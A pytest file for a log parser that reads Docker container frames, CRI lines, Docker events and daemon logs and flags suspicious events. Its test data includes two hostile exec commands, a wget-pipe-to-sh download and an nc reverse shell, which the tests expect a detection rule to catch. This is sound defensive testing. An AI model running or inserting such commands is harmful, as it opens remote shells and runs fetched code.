"""Lines of Docker: containers' lines in their frame, events, and the daemon's own words.

Written after Docker's pages on the json-file driver, `docker system events` and the daemon's log, and the kubelet's
design page on CRI logs.
"""

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.lines import CONTEXT, fulfilled, parsed, source_of, told

from rules.formats.container.containers import CriLines, DockerLines
from rules.formats.container.docker_events import DockerEvents
from rules.formats.detect import Pin

STAMP = "2026-03-01T03:11:20.123456789Z"
TEXT, EVENTS, DAEMON = "application/docker/container", "/docker/events", "/docker/daemon"
NOTHING = (None, None, None, None)
ACCESS = '203.0.113.7 - bob [01/Mar/2026:03:11:19 +0000] "GET /a HTTP/1.1" 404 1 "-" "curl/8"'
SSHD = "Mar  1 03:11:20 web1 sshd[1]: Failed password for root from 203.0.113.7 port 22 ssh2"


def frame(line: str, **more: Any) -> str:
    return json.dumps({"log": f"{line}\n", "stream": "stderr", "time": STAMP, **more})


def event(kind: str, action: str, **attributes: str) -> str:
    actor = {"ID": "4f1b", "Attributes": {"image": "example/app:1", "name": "app", **attributes}}
    return json.dumps(
        {
            "Type": kind,
            "Action": action,
            "Actor": actor,
            "scope": "local",
            "time": 1772334680,
            "timeNano": 1772334680123456789,
        }
    )


def daemon(level: str, text: str, more: str = "") -> str:
    return f'Mar  1 03:11:20 host1 dockerd[812]: time="{STAMP}" level={level} msg="{text}"{more}'


LINES: list[tuple[str, str, tuple[Any, ...], list[str]]] = [
    (frame(ACCESS), "webserver//", ("203.0.113.7", "bob", "http_request", "failure"), []),
    (frame(SSHD), "/linux/sshd", ("203.0.113.7", "root", "ssh_login", "failure"), []),
    (frame('{"level":"error","msg":"login failed","user":"bob"}'), TEXT, (None, "bob", None, None), []),
    (frame("listening on :8080"), TEXT, NOTHING, []),
    (frame(""), TEXT, NOTHING, []),
    (frame("x", attrs={"stage": "prod"}), TEXT, NOTHING, []),
    (f"{STAMP} stdout F {ACCESS}", "webserver//", ("203.0.113.7", "bob", "http_request", "failure"), []),
    (f"{STAMP} stderr P a piece of a li", TEXT, NOTHING, []),
    (f"{STAMP} stdout F", TEXT, NOTHING, []),
    (event("container", "start"), EVENTS, (None, None, "container_start", "unknown"), []),
    (event("container", "die", exitCode="0"), EVENTS, (None, None, "container_die", "success"), []),
    (
        event("container", "die", exitCode="137"),
        EVENTS,
        (None, None, "container_die", "failure"),
        ["Container died with an error"],
    ),
    (event("container", "exec_create: /bin/sh -c id"), EVENTS, (None, None, "container_exec_create", "unknown"), []),
    (
        event("container", "exec_create: /bin/sh"),
        EVENTS,
        (None, None, "container_exec_create", "unknown"),
        ["Shell in a container"],
    ),
    (
        event("container", "exec_create: sh -c wget -qO- http://203.0.113.7/a | sh"),
        EVENTS,
        (None, None, "container_exec_create", "unknown"),
        ["Download or remote shell run in a container"],
    ),
    (event("container", "die", exitCode="143"), EVENTS, (None, None, "container_die", "failure"), []),
    (
        daemon("warning", "[DEPRECATION NOTICE]: API is accessible on http://0.0.0.0:2375 without encryption."),
        DAEMON,
        NOTHING,
        ["Docker's API open to the network"],
    ),
    (event("container", "exec_create: pg_isready"), EVENTS, (None, None, "container_exec_create", "unknown"), []),
    (event("container", "health_status: unhealthy"), EVENTS, (None, None, "container_health_status", "failure"), []),
    (event("container", "oom"), EVENTS, (None, None, "container_oom", "unknown"), ["Container out of memory"]),
    (
        "2026-03-01T03:11:20.123456789+01:00 container exec_create: sh -c echo (x) | nc 203.0.113.7 1 -e /bin/sh 4f1b "
        "(execID=9a, image=example/app:1, name=app)",
        EVENTS,
        (None, None, "container_exec_create", "unknown"),
        ["Download or remote shell run in a container"],
    ),
    (
        "2026-03-01T03:11:20.123456789Z container die 4f1b (exitCode=137, image=example/app:1, name=app)",
        EVENTS,
        (None, None, "container_die", "failure"),
        ["Container died with an error"],
    ),
    (
        "2026-03-01T03:11:20.123456789Z network connect 4f1b (container=9a, name=bridge, type=bridge)",
        EVENTS,
        (None, None, "network_connect", "unknown"),
        [],
    ),
    ("2026-03-01T03:11:20Z host1 app[1]: container die 4f1b (exitCode=1, name=app)", "/linux/syslog", NOTHING, []),
    (event("image", "pull"), EVENTS, (None, None, "image_pull", "unknown"), []),
    (event("network", "connect"), EVENTS, (None, None, "network_connect", "unknown"), []),
    (daemon("info", "Daemon has completed initialization"), DAEMON, NOTHING, []),
    (daemon("error", "Handler for POST /v1.41/containers/x/start returned error"), DAEMON, NOTHING, []),
    ("Mar  1 03:11:20 host1 dockerd[812]: panic: runtime error", DAEMON, NOTHING, []),
]


@pytest.mark.parametrize(("line", "source", "meaning", "rules"), LINES)
def test_lines(line: str, source: str, meaning: tuple[Any, ...], rules: list[str]) -> None:
    """Each line tells who, from where, what and how it ended, and fulfils the rules that it should."""
    found = parsed(line)
    assert (source_of(found), told(found), fulfilled(found, line, "container")) == (source, meaning, rules)


@pytest.mark.parametrize("line", [frame(ACCESS), frame("x"), f"{STAMP} stdout F {ACCESS}"])
def test_the_frame_tells_the_time(line: str) -> None:
    """A container cannot put its lines at another moment than the one at which they were written."""
    assert parsed(line).time == datetime(2026, 3, 1, 3, 11, 20, 123456, tzinfo=UTC)


def test_details() -> None:
    """Stream, labels, command, image and exit code are kept."""
    assert parsed(frame("x", attrs={"stage": "prod"})).fields["container.stage"] == "prod"
    assert parsed(frame("x")).fields["message"] == "x"
    fields = parsed(event("container", "exec_create: /bin/sh -c id")).fields
    assert fields["process.command_line"] == "/bin/sh -c id"
    assert (fields["container.name"], fields["container.image"]) == ("app", "example/app:1")
    assert parsed(event("container", "die", exitCode="137")).fields["process.exit_code"] == 137
    assert parsed(daemon("info", "x", " container=ab")).fields["docker.container"] == "ab"


@pytest.mark.parametrize(
    "line",
    ['{"log":"x","stream":"stdout"}', frame("x", more=1), '{"log":1,"stream":"stdout","time":"x"}', "stdout F x"],
)
def test_other_objects(line: str) -> None:
    """An application's own object with a log in it is no frame."""
    assert DockerLines(()).parse(line, CONTEXT) is None
    assert CriLines(()).parse(line, CONTEXT) is None


def test_a_container_cannot_forge_the_lines_of_others() -> None:
    """Once its own format is known, a line of another is plain text, until a hundred of them come in a row."""
    pin = Pin("docker-json")

    def sources(line: str, times: int) -> list[str]:
        return [source_of(found) for _ in range(times) if (found := pin.choose(line, CONTEXT)[1]) is not None]

    assert sources(frame(SSHD), 1) == ["/linux/sshd"]
    sources(frame(ACCESS), 199)
    assert sources(frame(SSHD), 2) == [TEXT, TEXT]
    pin = Pin("docker-json", pin.state)
    assert sources(frame(SSHD), 90) == [TEXT] * 90
    assert sources(frame(ACCESS), 1) == ["webserver//"]
    assert sources(frame(SSHD), 100) == [TEXT] * 99 + ["/linux/sshd"]


def test_the_two_outputs_have_formats_of_their_own() -> None:
    """What a program says on standard error has nothing to do with the lines on its standard output."""
    pin = Pin("cri")
    for _ in range(200):
        pin.choose(f"{STAMP} stdout F {ACCESS}", CONTEXT)
        pin.choose(f"{STAMP} stderr F starting up", CONTEXT)
    _, found = pin.choose(f"{STAMP} stderr F {ACCESS}", CONTEXT)
    assert found is not None
    assert source_of(found) == TEXT
    _, found = pin.choose(f"{STAMP} stdout F {ACCESS}", CONTEXT)
    assert found is not None
    assert source_of(found) == "webserver//"


@settings(deadline=None)
@given(st.text(), st.dictionaries(st.text(max_size=5), st.none() | st.text(max_size=5) | st.integers(), max_size=3))
def test_never_raises(text: str, more: dict[str, Any]) -> None:
    """Whatever a container writes, it is read."""
    assert parsed(json.dumps({"log": text, "stream": "stdout", "time": STAMP, "attrs": more})).time is not None
    parsed(f"{STAMP} stdout F {text}")
    DockerEvents().parse(json.dumps({"Actor": more, "Action": text, "Type": text, "time": 1772334680}), CONTEXT)
    parsed(f"Mar  1 03:11:20 host1 dockerd[812]: time={text}")
